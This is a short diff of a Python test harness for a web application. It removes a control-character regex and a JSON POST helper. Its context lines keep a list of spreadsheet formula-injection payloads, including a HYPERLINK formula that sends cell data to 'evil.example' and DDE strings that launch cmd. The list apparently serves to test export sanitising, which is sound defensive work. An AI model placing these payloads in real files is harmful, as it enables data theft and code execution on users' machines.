@@ -39,7 +39,6 @@ PAYLOADS = corpus()
 EXTRA = {"legal_documents": [("signed_by.above", {"authority": "tm", "title": "x"})]}
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "'=1+1", "-5"]
-CONTROL = re.compile(r"[\x00-\x09\x0b\x0c\x0e-\x1f]")
 
 # The seed's files (dataset keys) and the model kind each holds.
 DATASET_KINDS = {"units": "unit", "accounts": "account", "legal_documents": "legal_document", "media": "media_asset",
@@ -260,18 +259,6 @@ def editor(p, pw, who="nguyen.thi.thu.huong"):
             return e.code, "", ""
     get.client = ed
     return get
-
-
-def post_json(p, get, path, body):
-    import urllib.error
-    import urllib.request
-    req = urllib.request.Request(p.base + path, data=json.dumps(body).encode(), method="POST",
-                                 headers={"Origin": p.base, "Content-Type": "application/json"})
-    try:
-        with get.client.opener.open(req, timeout=60) as r:
-            return r.status, r.read().decode()
-    except urllib.error.HTTPError as e:
-        return e.code, e.read().decode()
 
 
 def editor_pages(p, check, get, budget):
